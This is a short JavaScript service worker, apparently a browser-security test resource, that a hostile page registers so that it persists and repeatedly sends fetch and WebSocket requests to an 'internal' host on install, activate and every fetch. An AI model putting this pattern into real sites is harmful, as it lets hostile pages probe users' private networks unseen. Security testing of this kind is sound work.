// Registered by a hostile page; outlives it where nobody cleans up.
const internal = new URL(self.location).searchParams.get('internal');
const reach = () => {
  fetch(`http://${internal}/service-worker`, { mode: 'no-cors' }).catch(() => {});
  try { new WebSocket(`ws://${internal}/service-worker-socket`); } catch {}
};
self.addEventListener('install', (event) => { self.skipWaiting(); event.waitUntil(Promise.resolve().then(reach)); });
self.addEventListener('activate', (event) => event.waitUntil(self.clients.claim()));
self.addEventListener('fetch', reach);
reach();
